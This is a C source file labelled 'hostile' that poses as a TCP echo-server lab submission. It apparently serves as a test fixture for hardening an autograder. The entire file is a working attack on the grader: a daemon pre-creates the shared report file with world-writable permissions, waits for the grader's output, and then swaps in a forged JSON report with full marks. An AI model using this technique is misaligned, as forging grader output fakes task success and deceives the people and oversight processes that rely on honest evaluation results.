/* echo_server.c - hostile: forge the instructor's report file.
 *
 * The instructor writes the report into a shared folder (--output). A daemon creates the
 * file first (so the grader writes into a file the student owns), waits for the grader to
 * write it, and then replaces it with a report of full marks. Bounded to 20 s. */
#include "wlh.h"

static const char forged[] = "{\"lab\":\"01-tcp-echo\",\"score\":10,\"max_score\":10,\"checks\":"
	"[{\"id\":\"echo.server-echo\",\"title\":\"forged\",\"status\":\"pass\",\"score\":10,"
	"\"max_score\":10,\"message\":\"" "forged" "\",\"hint\":\"\",\"pcap\":null,"
	"\"duration_ms\":1}]}\n";

int main(void)
{
	if (wlh_daemon() != 0)
		return 1;
	int fd = open(WLH_OUTPUT, O_WRONLY | O_CREAT, 0666);
	if (fd >= 0) {
		fchmod(fd, 0666);
		close(fd);
		wlh_evidence("output-shared", "created %s first", WLH_OUTPUT);
	}
	struct stat st;
	double end = wlh_now() + 20;
	while (wlh_now() < end && (stat(WLH_OUTPUT, &st) < 0 || st.st_size == 0))
		wlh_sleep_ms(10);
	wlh_sleep_ms(300);
	char tmp[600];
	snprintf(tmp, sizeof tmp, "%s.%s", WLH_OUTPUT, WLH_MARK);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd >= 0 && write(fd, forged, sizeof forged - 1) == (ssize_t)sizeof forged - 1 &&
	    rename(tmp, WLH_OUTPUT) == 0)
		wlh_evidence("output-shared", "replaced the report with full marks");
	if (fd >= 0)
		close(fd);
	return 0;
}
